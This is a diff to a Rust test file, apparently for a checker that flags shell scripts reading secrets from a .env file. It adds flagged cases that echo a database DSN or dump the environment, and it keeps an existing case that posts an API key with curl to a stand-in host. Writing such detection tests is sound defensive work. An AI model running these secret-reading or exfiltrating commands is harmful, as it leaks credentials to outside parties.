@@ -199,13 +199,17 @@ fn the_history_is_kept_in_files() {
 
 #[test]
 fn scripts_that_load_their_settings() {
-    let run = |text: &str| check_with("bash run.sh", &[("/repo/run.sh", text), ("/repo/.env", "API_KEY=x\nDEBUG=1\n")]);
+    let run = |text: &str| check_with("bash run.sh", &[("/repo/run.sh", text), ("/repo/.env", "API_KEY=x\nDEBUG=1\nDSN=postgres://u:p@db.example/x\n")]);
     for text in ["set -a\nsource .env\nset +a\nnpm test\n", "D=$(dirname \"$0\")\n. \"$D/.env\"\ngo run ./cmd/x\n"] {
         assert!(!run(text).contains("secret.read"), "{text}: {}", run(text));
     }
     for text in [
         "source .env\necho \"$API_KEY\"\n",
+        "source .env\necho \"$DSN\"\n",
         "source .env\nenv\n",
+        "source .env\nset\n",
+        "source .env\ndeclare -p\n",
+        "source .env\nexport -p\n",
         "source .env\ncurl -d \"$API_KEY\" https://x.example\n",
         "cat .env\n",
     ] {
